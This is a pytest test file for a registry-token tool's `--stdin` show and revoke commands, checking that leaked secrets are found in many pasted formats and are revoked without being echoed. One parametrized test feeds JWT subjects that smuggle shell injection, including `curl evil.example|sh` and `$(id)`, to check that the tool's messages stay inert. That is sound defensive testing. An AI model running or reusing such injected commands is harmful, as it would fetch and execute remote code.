"""What people paste when a token has leaked: `token show --stdin` and `token
revoke --stdin` find its secret in it, and say nothing of that again.
"""

import base64
import json
import os
import pty
import re
import subprocess
from contextlib import suppress
from urllib.parse import quote

import pytest

from support import secrets, tokens
from support.dockpass import ENV, PATIENCE, PROGRAM, Dockpass
from support.process import wait_until
from support.ways import basic, login, refresh_token

KIB = 1024
NONE = "no token has this secret: mistyped, of another server, or a refresh " \
    "token that is gone"
NOTHING = "found no secret of a token in it: looked for access and refresh " \
    "tokens of any prefix, as they are, in base64 and percent-encoded; give " \
    "one that is written otherwise as it was made; a password is changed by " \
    "dockpass user password"


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    """A serving dockpass with one user."""
    with Dockpass(tmp_path_factory.mktemp("live"), services=[
            {"name": "registry", "refresh_tokens": True, "ttl": 300}]) as live:
        live.user("alice", password="first password")
        yield live.serve()


class Made:
    """A new token of alice's, or of another's."""
    count = 0

    def __init__(self, live, *owner):
        Made.count += 1
        self.name = f"leak-{Made.count}"
        self.live = live
        self.secret = live.token(*(owner or ["alice"]), scopes="api",
                                 name=self.name)
        self.id = live.token_id(self.name)

    @property
    def works(self):
        return self.live.ask(auth=("x", self.secret)).status_code == 200


@pytest.fixture
def made(live):
    return Made(live)


def inside(text, times=1):
    """In base64."""
    for _ in range(times):
        text = base64.b64encode(text.encode()).decode()
    return secrets.remember(text)


def config(secret, **more):
    return json.dumps({"auths": {
        "registry.example.com": {"auth": inside(f"alice:{secret}")},
        "https://index.docker.io/v1/": {"auth": inside("bob:hunter2")}},
        **more}, indent="\t")


def folded(text, width):
    return "\n".join(re.findall(f".{{1,{width}}}", inside(text)))


FORMS = {
    "alone": lambda s: s,
    "a line": lambda s: f" {s} \r\n",
    "user:secret": lambda s: f"alice:{s}\n",
    "Docker's config.json": config,
    "in one line": lambda s: json.dumps(json.loads(config(s))),
    "Basic": lambda s: f"Authorization: {basic('alice', s)}\r\n",
    "what curl prints": lambda s: f"> GET /token HTTP/1.1\n> Authorization: "
                                  f"{basic('a-user_of.all', s)}\n> \n",
    "Bearer": lambda s: f"authorization: bearer {s}",
    "PRIVATE-TOKEN": lambda s: f"PRIVATE-TOKEN: {s}\r\n",
    "an address": lambda s: f"https://alice:{s}@registry.example.com/v2/",
    "a shell's line": lambda s: f"$ docker login -u alice -p {s} host:5000\n",
    "a shell's option": lambda s: f"docker login --password='{s}' host",
    "a variable": lambda s: f"export CI_TOKEN={s};",
    "JSON in JSON": lambda s: json.dumps(json.dumps({"a": f"\n{s}\n"})),
    "a Kubernetes secret": lambda s: ".dockerconfigjson: " + inside(config(s)),
    "base64(1)": lambda s: base64.encodebytes(config(s).encode()).decode(),
    "a query": lambda s: f"auth=Basic%20{inside(f'alice:{s}')}",
    "a form": lambda s: f"auth=Basic+{inside(f'alice:{s}')}",
    "a path": lambda s: f"GET /x/{inside(f'alice:{s}')}/ HTTP/1.1",
    "a line's end in JSON": lambda s: json.dumps(
        f"\n{inside(f'alice:{s}')}\n"),
    "lines of 79": lambda s: folded(config(s), 79),
    "lines of 118, in JSON": lambda s: json.dumps(folded(config(s), 118)),
    "percent-encoded": lambda s: quote(config(s)).replace("-", "%2D"),
    "PowerShell's >": lambda s: "\0".join(f"{config(s)}\r\n\0"),
    "bytes": lambda s: f"\0\1\x7f{s}\0",
    "64 KiB": lambda s: " " * (64 * KIB - len(s)) + s,
}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
def test_it_is_found_in(live, made, form):
    """By show, which changes nothing, and by revoke, which ends it."""
    text = form(made.secret)
    assert live.json("token", "show", "--stdin", stdin=text) == \
        live.json("token", "show", made.id)
    assert made.works
    done = live.run("token", "revoke", "--stdin", "--config",
                    live.config_file, stdin=text)
    assert (done.stdout, done.stderr) == (
        "", f"revoked: token {made.id}, {made.name}, of alice\n")
    assert not made.works
    assert live.json("token", "revoke", "--stdin", stdin=text)["revoked"]


def remember_within(text):
    """The secret in what token create prints, in whatever form."""
    for secret in re.findall(r"glpat-[\w-]{20}", text):
        secrets.remember(secret)
    for word in re.findall(r"[\w+/]{28,}=*", text):
        with suppress(ValueError):
            remember_within(base64.b64decode(word).decode())
            secrets.remember(word)


@pytest.mark.parametrize("how", ["dockerconfigjson", "kubernetes-secret",
                                 "env"])
def test_what_token_create_hands_over_leads_back(live, how):
    name = f"handed-{how}"
    where = [] if how == "env" else ["--registry", "r.example.com"]
    where += ["--secret-name", "pull"] if how == "kubernetes-secret" else []
    text = live.cli("token", "create", "alice", "--name", name, "--scopes",
                    "api", "--format", how, *where, secret=True)
    remember_within(text)
    assert live.json("token", "show", "--stdin", stdin=text)["name"] == name


def test_a_refresh_token_leads_to_its_token(live, made):
    refresh = refresh_token(login(live, made.secret))
    text = json.dumps({"auths": {"host": {"identitytoken": refresh}}})
    assert live.json("token", "show", "--stdin", stdin=text)["id"] == made.id


def test_a_prefix_of_one_s_own(live):
    """That which is set, and those that were."""
    known = []
    for prefix in "acme-", "x":
        live.cli("settings", "set", "token_prefix", prefix)
        known.append(Made(live))
    live.cli("settings", "set", "token_prefix", "glpat-")
    for form in FORMS.values():
        for own in known:
            found = live.json("token", "show", "--stdin",
                              stdin=form(own.secret))
            assert found["id"] == own.id


# Several

def test_each_of_several_is_revoked(live):
    """Whoever's they are, and once each; which, and no secret."""
    live.cli("project", "add", "team/app")
    several = [Made(live), Made(live, "--project", "team/app"), Made(live)]
    other = Made(live)
    text = config(several[0].secret) + several[1].secret + " " + \
        f"Basic {inside('x:' + several[2].secret)}\n" + several[0].secret
    shown = live.cli("token", "show", "--stdin", stdin=text)
    assert all(one.works for one in several)
    done = live.run("token", "revoke", "--stdin", "--config",
                    live.config_file, stdin=text)
    assert done.stderr == ""
    for told in shown, done.stdout:
        head, *lines = [line.split() for line in told.splitlines()]
        assert head[0] == "ID" and len(lines) == len(several), told
        for one in several:
            assert any(line[0] == str(one.id) and one.name in line
                       for line in lines), told
    assert not any(one.works for one in several) and other.works
    listed = live.json("token", "revoke", "--stdin", stdin=text)
    assert {one["id"]: one["revoked"] for one in listed} == {
        one.id: True for one in several}


def test_a_family_with_each(live):
    """--family is of each; without, those that work on are named."""
    made = [Made(live), Made(live)]
    rotated = [live.json("token", "rotate", one.id, "--grace", "7d",
                         secret=True) for one in made]
    for new in rotated:
        secrets.remember(new["token"])
    text = "\n".join(one.secret for one in made)
    done = live.run("token", "revoke", "--stdin", "--config",
                    live.config_file, stdin=text)
    for new in rotated:
        assert f"of its family these work on: {new['id']};" in done.stderr
        assert live.ask(auth=("x", new["token"])).status_code == 200
    live.cli("token", "revoke", "--stdin", "--family", stdin=text)
    for new in rotated:
        tokens.refusal(live.ask(auth=("x", new["token"])), 401)


def test_many_of_them(live):
    """More than notes have room for."""
    many = [Made(live) for _ in range(20)]
    text = "\n".join(one.secret for one in many)
    listed = live.json("token", "revoke", "--stdin", stdin=text)
    assert [one["id"] for one in listed] == [one.id for one in many]
    assert all(one["revoked"] for one in listed)


def test_one_that_is_known_and_one_that_is_not(live, made):
    done = live.run("token", "revoke", "--stdin", "--config",
                    live.config_file,
                    stdin=f"{made.secret} glpat-{'q' * 20}")
    assert done.stderr == (
        f"revoked: token {made.id}, {made.name}, of alice\nsomething else in "
        "it is like a secret, but no token has it\n")


# What is none

def jwt(live, *auth):
    answer = live.ask(auth=auth or None)
    return secrets.remember(answer.json()["token"])


@pytest.mark.parametrize("what", ["show", "revoke"])
def test_a_registry_s_token_is_explained(live, made, what):
    text = "Authorization: Bearer " + jwt(live, "x", made.secret)
    status, message = live.refused("token", what, "--stdin", stdin=text)
    assert status == 1
    before, _, left = message.partition("itself within ")
    assert before == "dockpass: a JWT, as registries get it, cannot be " \
        "revoked and ends by "
    seconds, _, rest = left.partition(" s")
    assert 200 < int(seconds) <= 300
    assert rest == ": by its own word one of 'alice'; dockpass token list " \
        "alice has what it may come from"
    assert made.works


def test_one_of_nobody(live):
    status, message = live.refused("token", "revoke", "--stdin",
                                   stdin=jwt(live))
    assert status == 1 and message.endswith(
        " s: by its own word one of nobody (anonymous)")


def unsigned(**claims):
    """Whoever pastes one has not made it."""
    def part(**claims):
        return base64.urlsafe_b64encode(
            json.dumps(claims).encode()).decode().rstrip("=")
    return f"{part(alg='ES256')}.{part(**claims)}.c2ln"


@pytest.mark.parametrize("subject, told", [
    ("eve", "'eve'; dockpass token list eve has what it may come from"),
    ("x'; curl evil.example|sh; echo 'y", "a name that no user can have"),
    ("$(id)", "a name that no user can have"),
    ("--user", "a name that no user can have"),
    ("\neve", "a name that no user can have")])
def test_one_that_has_ended(live, subject, told):
    """A command that is offered has nothing in it that does more."""
    assert live.refused("token", "revoke", "--stdin",
                        stdin=unsigned(sub=subject, exp=5)) == (
        1, "dockpass: a JWT, as registries get it, cannot be revoked and has "
        f"ended by itself: by its own word one of {told}")


def test_beside_its_token(live, made):
    """The token is revoked, and the rest said."""
    text = json.dumps({"token": jwt(live, "x", made.secret),
                       "secret": made.secret})
    done = live.run("token", "revoke", "--stdin", "--config",
                    live.config_file, stdin=text)
    first, second = done.stderr.splitlines()
    assert first == f"revoked: token {made.id}, {made.name}, of alice"
    assert second.startswith("a JWT, as registries get it, ")
    assert not made.works


# form: (what is pasted, what is said)
WRONG = {
    "nothing": ("", "the text on standard input is empty; pipe it in"),
    "words": ("hello world", NOTHING),
    "a password": (f"Authorization: {basic('alice', 'first password')}",
                   NOTHING),
    "another's": (f"x:glpat-{'q' * 20}", NONE),
    "another's config.json": (config(f"glpat-{'q' * 20}"), NONE),
    "another's refresh token": (f"dprt-{'q' * 40}", NONE),
    "too much": ("x" * (64 * KIB + 1), "the text on standard input is longer "
                 "than 65536 bytes; give a shorter one"),
    "far too much": ("x" * (9999 * KIB), "the text on standard input is "
                     "longer than 65536 bytes; give a shorter one"),
    "three words": ("eyJx.eyJy.z", NOTHING),
}


@pytest.mark.parametrize("what", ["show", "revoke"])
@pytest.mark.parametrize("text, message", WRONG.values(), ids=WRONG)
def test_what_leads_to_no_token(live, what, text, message):
    assert live.refused("token", what, "--stdin", stdin=text) == (
        1, f"dockpass: {message}")


def test_at_a_terminal_it_is_not_shown(live, made):
    """All lines of it, up to Ctrl-D: none is left for the shell."""
    master, slave = pty.openpty()
    with subprocess.Popen(
            [PROGRAM, "token", "revoke", "--stdin", "--config",
             live.config_file], env=ENV, text=True, stdin=slave,
            stdout=subprocess.PIPE, stderr=slave) as process:
        os.close(slave)
        shown = [os.read(master, 1000)]
        os.write(master, config(made.secret).encode() + b"\n\4")
        wait_until(lambda: process.poll() is not None, 30 * PATIENCE,
                   "the end of it")
        shown.append(os.read(master, 1000))
    os.close(master)
    assert b"".join(shown).decode().split("\r\n") == [
        "text, then Enter and Ctrl-D (it is not shown): ",
        f"revoked: token {made.id}, {made.name}, of alice", ""]
    assert not made.works
